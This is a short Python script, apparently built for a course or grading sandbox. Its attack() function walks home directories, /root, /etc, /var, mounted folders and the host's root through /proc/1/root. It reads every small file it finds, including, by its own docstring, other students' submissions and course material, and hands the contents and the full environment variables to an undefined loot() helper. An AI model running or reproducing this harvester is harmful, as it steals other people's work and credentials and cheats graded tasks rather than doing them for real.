"""Reads every file that it can reach: the course, other submissions, the homes, the mounted folders."""

import os
from itertools import islice
from pathlib import Path

LARGE = 1 << 18
MANY = 2000
ROOTS = ("/box", "/home", "/root", "/work", "/srv", "/opt", "/mnt", "/var", "/etc", "/run", "/tmp", "/dev/shm")
LIBRARIES = ("proc", "sys", "usr", "lib", "lib64", "site-packages", ".venv", ".git")


def _near():
    """From every folder that something is known to lie in, upwards."""
    for place in (os.getcwd(), os.environ.get("HOME", "/"), os.path.dirname(__file__)):
        yield from (os.fspath(folder) for folder in islice(Path(place).resolve().parents, 3) if folder.name)


def _files(root):
    for folder, folders, files in os.walk(root):
        folders[:] = [name for name in folders if name not in LIBRARIES]
        yield from (os.path.join(folder, name) for name in files)


def attack():
    for root in (*_near(), *ROOTS, "/proc/1/root/home", "/proc/1/root/root"):
        for path in islice(_files(root), MANY):
            if attempt(os.path.isfile, path) and (attempt(os.path.getsize, path) or LARGE) < LARGE:
                loot(attempt(Path(path).read_bytes) or b"")
    loot(repr(dict(os.environ)))
